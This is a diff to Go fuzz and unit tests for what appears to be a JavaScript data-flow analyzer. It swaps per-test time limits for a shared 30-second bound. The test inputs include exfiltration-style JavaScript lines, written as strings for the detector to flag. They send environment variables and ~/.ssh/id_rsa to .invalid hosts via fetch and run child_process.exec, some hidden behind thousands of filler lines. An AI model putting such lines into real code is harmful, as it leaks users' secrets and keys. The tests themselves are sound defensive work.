@@ -32,7 +32,7 @@ func FuzzRead(f *testing.F) {
 		start := time.Now()
 		file := readText(NewReader(capability.Default()), name, text)
 		checkFacts(t, file, strings.Count(text, "\n")+strings.Count(text, "\r")+1)
-		if took := time.Since(start); took > 5*time.Second {
+		if took := time.Since(start); took > runaway {
 			t.Errorf("took %v", took)
 		}
 	})
@@ -74,13 +74,17 @@ func checkFacts(t *testing.T, f *File, lines int) {
 	}
 }
 
-// within reads a text in so much time, and wants its last statement among the
+// runaway is what no file takes on any machine, under the race detector either:
+// what grows by the square takes minutes.
+const runaway = 30 * time.Second
+
+// within reads a text in bounded time, and wants its last statement among the
 // uses, and the innermost one, which fetches.
-func within(t *testing.T, limit time.Duration, text string) *File {
+func within(t *testing.T, text string) *File {
 	t.Helper()
 	start := time.Now()
 	f := readText(NewReader(capability.Default()), "a.js", text)
-	if took := time.Since(start); took > limit {
+	if took := time.Since(start); took > runaway {
 		t.Errorf("%d bytes took %v", len(text), took)
 	} else {
 		t.Logf("%d bytes: %v, %s %s", len(text), took.Round(time.Millisecond), f.How, f.Partial)
@@ -173,14 +177,14 @@ func TestHugeFiles(t *testing.T) {
 		"spread":                 "var a = [process.env];" + repeated(2_000, "a = [...a, ...a]; var o$ = { ...a, ...o$1 };") + "fetch(...a);",
 		"generators":             repeated(2_000, "function* g$() { yield* g$1(); yield process.env; }") + "for (const x of g0()) fetch(x);",
 	} {
-		t.Run(name, func(t *testing.T) { within(t, 3*time.Second, text+last) })
+		t.Run(name, func(t *testing.T) { within(t, text+last) })
 	}
 }
 
 // TestNothingHidesBehindMuch puts one thing that matters behind very much that
 // does not.
 func TestNothingHidesBehindMuch(t *testing.T) {
-	f := within(t, 3*time.Second, repeated(5_000, "fetch('https://a$.invalid/' + process.env.A$); require('./m$');")+
+	f := within(t, repeated(5_000, "fetch('https://a$.invalid/' + process.env.A$); require('./m$');")+
 		"require('payload'); require('child_process').exec('zz ' + require('os').hostname());\n"+
 		"fetch('https://z.invalid/', { body: ["+strings.Repeat("Date.now(),", 100)+"require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')] });\nprocess.abort();\n")
 	facts := told(f)
@@ -196,7 +200,7 @@ func TestNothingHidesBehindMuch(t *testing.T) {
 }
 
 func TestSecretHidesBehindNoOtherLabels(t *testing.T) {
-	f := within(t, time.Second, "fetch('https://z.invalid/', { body: ["+strings.Repeat("Date.now(),", 100)+"process.env.A] });\nprocess.abort();\n")
+	f := within(t, "fetch('https://z.invalid/', { body: ["+strings.Repeat("Date.now(),", 100)+"process.env.A] });\nprocess.abort();\n")
 	if !told(f)[`flow env "A" -> net fetch body "z.invalid"`] {
 		t.Errorf("not kept: %v", told(f))
 	}
